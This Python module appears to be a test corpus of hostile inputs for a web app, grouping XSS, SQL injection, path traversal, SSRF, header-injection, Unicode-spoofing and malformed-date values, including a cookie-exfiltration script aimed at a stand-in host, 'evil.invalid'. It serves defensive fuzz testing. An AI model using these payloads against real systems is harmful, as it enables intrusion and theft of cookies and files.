"""Hostile values, by class: what attackers and accidents put into forms, queries and uploads."""

from __future__ import annotations

# Every URL an injected value could make a browser fetch points here; a browser test fails
# on any request to this host.
EVIL_HOST = "evil.invalid"
EVIL = f"http://{EVIL_HOST}"

_SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('x')</SCRIPT>",
    f'<script src="{EVIL}/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>fetch('" + EVIL + "/steal?c='+document.cookie)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "<%= 7*7 %>",
    "<!--<script>alert(1)//-->",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/o.swf"></object>',
    f'<embed src="{EVIL}/e.swf">',
    f'<link rel=stylesheet href="{EVIL}/s.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/f"><button>go</button></form>',
    "<style>@import '" + EVIL + "/i.css';</style>",
    '<div style="background:url(' + EVIL + '/bg.png)">x</div>',
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\url{javascript:alert(1)}$",
    "$x$<img src=x onerror=alert(1)>$y$",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![x]({EVIL}/pixel.png)",
    f'<a href="{EVIL}/a">link</a>',
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    '{"X-CSRFToken": "x"}\'><script>alert(1)</script>',
]

_EVENT_HANDLERS = [
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '"><img src=x onerror=alert(1)>',
    "<a href=# onclick=alert(1)>x</a>",
    "<div hx-get='/' hx-trigger='load' hx-on::load='alert(1)'>x</div>",
    '<div hx-on:click="alert(1)">x</div>',
    "<button hx-post='/logout' hx-trigger='load'>x</button>",
    f"<div hx-get='{EVIL}/h' hx-trigger='load'>x</div>",
    '<p data-embed-url="javascript:alert(1)" class="recording-frame">x</p>',
    "<x onpointerenter=alert(1)>x</x>",
    "<style onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="&#106;avascript:alert(1)">x</a>',
]

_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "ftp://" + EVIL_HOST + "/x",
    "//" + EVIL_HOST + "/x",
    "\\\\" + EVIL_HOST + "\\x",
    "https://" + EVIL_HOST + '/"><script>alert(1)</script>',
    "https://" + EVIL_HOST + "/x' onerror='alert(1)",
    "https://" + EVIL_HOST + '/x.pdf"><script>alert(1)</script>',
    "https://" + EVIL_HOST + "/a;script-src *.pdf",
    "https://" + EVIL_HOST + ";script-src */x.pdf",
    "https://user:pass@" + EVIL_HOST + "/",
    "https://" + EVIL_HOST + ":99999/",
    "https://[::1/",
    "http://[invalid",
    "https://www.youtube.com/watch?v=<script>",
    'https://www.youtube.com/watch?v=aaaaaaaaaaa"onload=alert(1)',
    'https://vimeo.com/123"><script>alert(1)</script>',
    "mailto:x@example.org?body=<script>alert(1)</script>",
    "https://" + "a" * 5000 + ".example/",
    "http://127.0.0.1:22/",
    "http://169.254.169.254/latest/meta-data/",
    "about:blank",
    "blob:https://" + EVIL_HOST + "/x",
    "webcal://" + EVIL_HOST + "/cal.ics",
]

_SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE talk; --",
    "1; DELETE FROM talk",
    "1' UNION SELECT password_hash FROM organizer --",
    "' UNION SELECT NULL,NULL,NULL--",
    "admin'--",
    "1 AND SLEEP(5)",
    "'||(SELECT sqlite_version())||'",
    "%' AND 1=1 AND '%'='",
    "\\'; --",
    "talk_fts MATCH '*'",
    '"unterminated',
    "NEAR(a b, -1)",
    "title:* OR abstract:*",
    "(((((",
    "*",
    "a OR b AND NOT c",
    "^a",
    "'\"`;--/**/",
    "0x41414141",
    "-1",
    "99999999999999999999999999",
    "1e308",
    "NaN",
]

_PATHS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "..%c0%afetc/passwd",
    "../instance/secret_key",
    "../../instance/prisec.db",
    "uploads/../secret_key",
    "%00../../etc/passwd",
    "CON",
    "aux.pdf",
    ".htaccess",
    "~/.ssh/id_rsa",
]

_CONTROL = [
    "\x00",
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c\x0e\x0f\x1b[31mred\x1b[0m",
    "\x7f\x80\x9f",
    "line\r\nSet-Cookie: x=1",
    "\r\n\r\n<script>alert(1)</script>",
    "\ufeffBOM",
    "\ufffe\uffff",
    "\ud7ff\ue000",
    "zero\u200bwidth\u200c\u200d\u2060",
    "\u2028line\u2029para",
    "\t\t\t",
    "   ",
    "",
    "\n",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "Z\u0351\u0360\u0352\u0353\u0354\u0355",
    "\U0001f4a9\U0001f600\U0001f1ec\U0001f1e7",
    "𝕏𝕊𝕊",
    "İıſK",
]

_RTL = [
    "\u202egnp.exe",
    "talk\u202efdp.exe",
    "\u202dleft\u202c",
    "\u2066isolate\u2069",
    "\u2067rtl isolate\u2069",
    "\u200f\u200e",
    "abc\u202e<script>alert(1)</script>",
    "مرحبا بالعالم",
    "שלום עולם",
    "\u061c\u202bembedded\u202c",
]

_HUGE = [
    "A" * (1024 * 1024),
    "<script>alert(1)</script>" * 40000,
    "é" * 500_000,
    "a " * 300_000,
]

_DATES = [
    "2021-02-30",
    "2021-13-01",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "-0001-01-01",
    "2021-1-1",
    "01/02/2021",
    "02/01/2021",
    "2021-11-17T",
    "2021-11-17T25:00",
    "24:00",
    "23:60",
    "12:30:60",
    "-01:00",
    "1:5",
    "noon",
    "now",
    "tomorrow",
    "1637157600",
    "2021-03-28T01:30",
    "01:30",
    "02:30",
    "2021-10-31T01:30",
    "2026-03-29",
    "2026-10-25",
    "1970-01-01",
    "1900-02-29",
    "2100-02-29",
    "0001-01-01",
    "2021-11-17T16:00:00+25:00",
    "2021-11-17T16:00:00Z[Europe/London]",
    "P1D",
    "२०२१-११-१७",
]

_ZONES = [
    "Mars/Olympus_Mons",
    "Europe/Londres",
    "europe/london",
    "UTC+25",
    "GMT+14",
    "Etc/GMT+99",
    "../../../etc/localtime",
    "/usr/share/zoneinfo/UTC",
    "Europe/London\x00",
    "Local",
    "localtime",
    "EST5EDT,M3.2.0,M11.1.0",
    "posixrules",
    "Factory",
    "right/UTC",
    "US/Pacific-New",
]

CORPUS: dict[str, list[str]] = {
    "script": _SCRIPT,
    "event-handler": _EVENT_HANDLERS,
    "url": _URLS,
    "sql": _SQL,
    "path": _PATHS,
    "control": _CONTROL,
    "rtl": _RTL,
    "huge": _HUGE,
    "date": _DATES,
    "zone": _ZONES,
}

# Bytes that are not UTF-8, sent raw in form bodies and query strings.
INVALID_UTF8: list[bytes] = [
    b"\xff",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\xbc",
    b"\xf8\xa1\xa1\xa1\xa1",
    b"\xed\xa0\x80",  # a lone surrogate, encoded
    b"\xc0\xaf",  # overlong "/"
    b"abc\x80def",
    b"%ff%fe%00",
]


def all_values() -> list[tuple[str, str | bytes]]:
    """Every hostile value with its class."""
    values: list[tuple[str, str | bytes]] = [
        (name, value) for name, values in CORPUS.items() for value in values
    ]
    values += [("invalid-utf8", raw) for raw in INVALID_UTF8]
    return values


def sample(per_class: int, seed: int) -> list[tuple[str, str | bytes]]:
    """A few values of every class, always including the first (the most typical) of each."""
    import random

    rng = random.Random(seed)
    picked: list[tuple[str, str | bytes]] = []
    groups: dict[str, list[str | bytes]] = {**CORPUS, "invalid-utf8": list(INVALID_UTF8)}
    for name, values in groups.items():
        rest = values[1:]
        chosen = [values[0], *rng.sample(rest, min(per_class - 1, len(rest)))]
        picked += [(name, value) for value in chosen]
    return picked
